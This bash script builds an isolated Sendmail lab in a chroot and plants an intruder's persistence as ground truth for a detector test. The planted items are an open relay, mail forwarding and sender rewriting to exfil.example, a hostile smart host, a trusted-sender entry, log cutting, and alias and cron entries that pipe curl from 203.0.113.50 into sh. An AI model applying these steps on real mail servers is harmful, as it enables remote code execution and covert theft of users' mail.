#!/usr/bin/env bash
# The Sendmail host itself: runs inside the Debian bookworm chroot, in its own network
# namespace (tests/live/sendmail/scenario.sh enters both and calls this script;
# docs/live-test.md, "The Sendmail run"). Every path here is the chroot's own.
#
#   inside.sh up OUT       configure Sendmail, SASL and Dovecot, start them, run the attack
#   inside.sh stop OUT     stop the daemons up started, by the pids they wrote
#   inside.sh plant OUT    (called by attack.py) plant persistence in Sendmail's idiom, reload
#   inside.sh cut OUT FROM TO   (called by attack.py) cut [FROM, TO) out of /var/log/mail.log
#   inside.sh rotate OUT   (called by attack.py) rotate the logs with Debian's logrotate rules
#
# Sendmail is Debian's sendmail-bin (with sensible-mda, which it recommends, as its local
# mailer) with Debian's own sendmail.mc (MTA on 127.0.0.1:25, the
# MSA on 587 requiring AUTH, greet_pause, BAD_RCPT_THROTTLE, conncontrol and ratecontrol
# through the access map), plus what an admin of this host adds: Debian's SASL include
# (/etc/mail/sasl/sasl.m4; Cyrus SASL through saslauthd and PAM, so users log in with their
# Unix passwords), the virtusertable, mailertable and genericstable features (empty maps), and
# a smart host. It logs through the chroot's rsyslogd to /var/log/mail.log, with Dovecot's
# IMAP. The namespace has only a loopback interface: outgoing mail goes to the smart host
# 127.0.99.1, a sink standing in for the rest of the world (sink.py), so nothing can leave.
set -euo pipefail
here=$(cd "$(dirname "$0")" && pwd)
cmd=${1:?up, stop, plant, cut or rotate}
OUT=${2:?output folder}
mkdir -p "$OUT"
DOMAIN=lab.example
SINK_IP=127.0.99.1
# The outside hosts the intruder's smart host and mailertable route name (scenario.sh puts
# them on the namespace's loopback; a sink answers on each, so the mail they get is logged as
# delivered).
EVIL_SMART_HOST=203.0.113.25
EVIL_ROUTE=203.0.113.66
# RECEIVERS only receive mail (attack.py's RECEIVERS).
RECEIVERS=(kate liam nora)
USERS=(alice bob carol dave erin frank grace "${RECEIVERS[@]}")
# The outside network the intruder lets relay through the access map (TEST-NET-3's
# 198.51.100, the access map's octet-boundary form), and the host of it that then relays
# (attack.py's RELAY_NET_IP).
RELAY_NET=198.51.100
# attack.py's RELAY_IP has a name (/etc/hosts stands in for DNS), so Sendmail logs the relay
# prober as `relay=NAME [IP]`.
PROBER_IP=127.0.5.10
PROBER_NAME=relay-test.victims.example
LAB=sendmail
# shellcheck source=../lab-inside.sh
. "$here/lab-inside.sh"

# Rebuilds sendmail.cf from sendmail.mc (Debian's /etc/mail/Makefile) and each map from its
# text (`makemap hash access < access`, as the access file's own header says).
remake() {
  make -s -C /etc/mail sendmail.cf >/dev/null
  local m
  for m in access virtusertable mailertable genericstable; do
    makemap hash "/etc/mail/$m" < "/etc/mail/$m"
  done
}

up() {
  # 1. The host's names (and the relay prober's) and the users, with their passwords for SASL
  #    (PAM: the Unix password) and in Dovecot's password file.
  host_and_users "$PROBER_IP	$PROBER_NAME"
  local u
  for u in "${USERS[@]}"; do
    echo "$u:$(python3 "$here/attack.py" --password "$u")"
  done | chpasswd

  # 2. Cyrus SASL: saslauthd with PAM (Debian's /etc/default/saslauthd default), and
  #    Sendmail's SASL application file as Debian's example has it (pwcheck_method saslauthd).
  sed -i 's/^START=.*/START=yes/; s/^MECHANISMS=.*/MECHANISMS="pam"/' /etc/default/saslauthd
  mkdir -p /etc/mail/sasl
  cp /usr/share/sendmail/examples/sasl/sasl.m4 /etc/mail/sasl/sasl.m4
  grep -v '^#' /usr/share/sendmail/examples/sasl/Sendmail.conf.2 | sed '/^$/d' > /etc/mail/sasl/Sendmail.conf
  sed -i 's/^mech_list: .*/mech_list: PLAIN LOGIN/' /etc/mail/sasl/Sendmail.conf
  mkdir -p /usr/lib/sasl2
  ln -sf /etc/mail/sasl/Sendmail.conf /usr/lib/sasl2/Sendmail.conf

  # 3. Sendmail: Debian's sendmail.mc, plus this host's additions before MAILER_DEFINITIONS.
  #    The lab's own needs: no DNS (Debian's service.switch-nodns; unresolvable sender domains
  #    accepted), and the interfaces not probed (the outside addresses on the namespace's
  #    loopback would otherwise count as this host's own).
  local mc=/etc/mail/sendmail.mc
  sed -i "/^MAILER_DEFINITIONS/i\\
dnl # This host's additions\\
include(\`/etc/mail/sasl/sasl.m4')dnl\\
FEATURE(\`virtusertable')dnl\\
FEATURE(\`mailertable')dnl\\
FEATURE(\`genericstable')dnl\\
GENERICS_DOMAIN(\`$DOMAIN')dnl\\
define(\`SMART_HOST', \`esmtp:[$SINK_IP]')dnl\\
dnl # The lab has no DNS, and its outside hosts sit on the loopback interface\\
define(\`confSERVICE_SWITCH_FILE', \`/etc/mail/service.switch-nodns')dnl\\
FEATURE(\`accept_unresolvable_domains')dnl\\
define(\`confDONT_PROBE_INTERFACES', \`True')dnl" "$mc"
  echo "$DOMAIN" > /etc/mail/local-host-names
  # Debian's access map lets every 127.x address relay, skip the greeting pause and the rate
  # limits; in this lab only the host's own 127.0.0.1 is local (the attackers stand on other
  # 127.x addresses).
  sed -i -E 's/^(Connect|GreetPause|ClientRate|ClientConn):127([[:space:]])/\1:127.0.0.1\2/' /etc/mail/access
  : > /etc/mail/virtusertable
  : > /etc/mail/mailertable
  : > /etc/mail/genericstable
  remake
  newaliases >/dev/null

  # 4. Dovecot for IMAP (the users' mail in /var/mail, as mail.local writes it).
  dovecot_conf Sendmail </dev/null

  # 5. Start: the sinks, rsyslogd, saslauthd, Dovecot, Sendmail (no init system: by hand, as
  #    Debian's init scripts would: `sendmail -Am -L sm-mta -bd -q10m`).
  rm -f /var/log/mail.log* /var/log/syslog*
  local ip n=0
  for ip in "$SINK_IP" "$EVIL_SMART_HOST" "$EVIL_ROUTE"; do
    python3 "$here/sink.py" "$ip" 25 </dev/null >/dev/null 2>&1 &
    echo $! > "/run/mailir-sink-$n.pid"
    n=$((n + 1))
  done
  start_rsyslog
  mkdir -p /run/saslauthd
  saslauthd -a pam -c -m /run/saslauthd -n 5 </dev/null >/dev/null 2>&1
  dovecot </dev/null >/dev/null 2>&1
  install -d -o smmta -g smmsp -m 2755 /run/sendmail /run/sendmail/mta
  /usr/sbin/sendmail -Am -L sm-mta -bd -q10m </dev/null >/dev/null 2>&1
  wait_port "$SINK_IP" 25
  wait_port 127.0.0.1 25
  wait_port 127.0.0.1 587
  wait_port 127.0.0.1 143
  { echo "sendmail $(dpkg-query -W -f '${Version}' sendmail-bin)"
    echo "cyrus-sasl $(dpkg-query -W -f '${Version}' sasl2-bin)"
    common_versions
  } > "$OUT/versions.txt"

  # 6. The attack, the persistence, the cut and the rotations (attack.py drives it all,
  #    calling back into this script for the root-side steps).
  python3 "$here/attack.py" --mta sendmail --out "$OUT" --scenario "$0"
}

stop() {
  local f pid
  for f in /run/sendmail/mta/sendmail.pid /run/dovecot/master.pid /run/saslauthd/saslauthd.pid \
           /run/mailir-sink-*.pid /run/rsyslogd.pid; do
    pid=$(pid_of "$f") || continue
    kill "$pid" 2>/dev/null || true
  done
}

# The 1-based number of the last line of FILE matching the extended regex RE.
line_of() {
  grep -nE "$2" "$1" | tail -n 1 | cut -d: -f1
}

# The intruder's persistence, Sendmail's way. Prints the planted items (file, 1-based line,
# the rule that should cite it) as JSON for truth.json.
plant() {
  # An outside network allowed to relay (then the maps rebuilt, as Debian's make does).
  printf 'Connect:%s\t\t\tRELAY\n' "$RELAY_NET" >> /etc/mail/access
  local access_line; access_line=$(line_of /etc/mail/access "^Connect:$RELAY_NET")
  # erin's mail redirected outside; frank's outgoing mail made to come from an outside
  # address (replies go there); a partner's domain routed to a host of the intruder's.
  printf 'erin@%s\terin.archive@exfil.example\n' "$DOMAIN" >> /etc/mail/virtusertable
  printf 'frank\tbilling@exfil.example\n' >> /etc/mail/genericstable
  printf 'partner.example\tesmtp:[%s]\n' "$EVIL_ROUTE" >> /etc/mail/mailertable
  # All outgoing mail through a smart host of the intruder's, in sendmail.mc, sendmail.cf
  # regenerated from it.
  sed -i "s|^define(\`SMART_HOST', .*|define(\`SMART_HOST', \`esmtp:[$EVIL_SMART_HOST]')dnl|" /etc/mail/sendmail.mc
  local smart_line; smart_line=$(line_of /etc/mail/sendmail.mc "^define\\(\`SMART_HOST'")
  # A user trusted to send as anyone (FEATURE use_ct_file, Debian's default).
  echo www-data >> /etc/mail/trusted-users
  # A pipe alias, compiled (newaliases), then an alias added to the text only (never compiled:
  # the text and aliases.db differ).
  printf 'sysupdate: "|/bin/sh -c '\''curl -s http://203.0.113.50/u.sh | sh'\''"\n' >> /etc/aliases
  local pipe_line; pipe_line=$(line_of /etc/aliases '^sysupdate:')
  remake
  newaliases >/dev/null
  printf 'billing: frank, billing.copy@exfil.example\n' >> /etc/aliases
  local text_line; text_line=$(line_of /etc/aliases '^billing:')
  # grace's ~/.forward keeps her copy and sends one outside.
  printf '\\grace, grace.archive@exfil.example\n' > /home/grace/.forward
  chown grace: /home/grace/.forward
  chmod 644 /home/grace/.forward
  # A cron job that fetches and runs a script.
  mkdir -p /etc/cron.d
  printf 'SHELL=/bin/sh\n*/10 * * * * root curl -s http://203.0.113.50/s.sh | sh\n' > /etc/cron.d/sendmail-sync
  # Debian's reload (`invoke-rc.d sendmail reload`): a SIGHUP, the daemon re-executes itself
  # and reads the new sendmail.cf.
  kill -HUP "$(pid_of /run/sendmail/mta/sendmail.pid)"
  sleep 1
  wait_port 127.0.0.1 25
  local cf_line; cf_line=$(line_of /etc/mail/sendmail.cf "^DSesmtp:\\[$EVIL_SMART_HOST\\]")
  cat <<EOF
[{"path": "/etc/mail/access", "line": $access_line, "rule": "config.open_relay", "what": "RELAY for the outside network $RELAY_NET"},
 {"path": "/etc/mail/virtusertable", "line": 1, "rule": "persistence.forward", "what": "erin's mail redirected to erin.archive@exfil.example"},
 {"path": "/etc/mail/genericstable", "line": 1, "rule": "persistence.sender_rewrite", "what": "frank's outgoing mail rewritten to come from billing@exfil.example"},
 {"path": "/etc/mail/mailertable", "line": 1, "rule": "persistence.transport", "what": "partner.example routed to $EVIL_ROUTE"},
 {"path": "/etc/mail/sendmail.mc", "line": $smart_line, "rule": "persistence.transport", "what": "smart host $EVIL_SMART_HOST",
  "setting": {"path": "/etc/mail/sendmail.cf", "line": $cf_line}},
 {"path": "/etc/mail/trusted-users", "line": 1, "rule": "persistence.trusted_sender", "what": "www-data trusted to set any sender"},
 {"path": "/etc/aliases", "line": $pipe_line, "rule": "persistence.pipe", "what": "pipe alias running curl into sh"},
 {"path": "/etc/aliases", "line": $text_line, "rule": "persistence.compiled_map_mismatch", "what": "alias in the text, never compiled into aliases.db"},
 {"path": "/home/grace/.forward", "line": 1, "rule": "persistence.forward", "what": "grace's .forward copies her mail outside"},
 {"path": "/etc/cron.d/sendmail-sync", "line": 2, "rule": "persistence.cron", "what": "cron job piping curl into sh"}]
EOF
}

# Debian's rotation of the syslog files: logrotate with rsyslog's own rules (weekly, rotate 4,
# compress, delaycompress), forced. Its postrotate script signals rsyslogd only under
# systemd; without it, the HUP it would send is sent here.
rotate() {
  logrotate -f /etc/logrotate.d/rsyslog
  kill -HUP "$(pid_of /run/rsyslogd.pid)"
}

cut_slice() {
  cut_log /var/log/mail.log "$1" "$2"
  kill -HUP "$(pid_of /run/rsyslogd.pid)"
}

case $cmd in
  up) up ;;
  stop) stop ;;
  plant) plant ;;
  cut) cut_slice "$3" "$4" ;;
  rotate) rotate ;;
  *) echo "unknown command $cmd" >&2; exit 2 ;;
esac
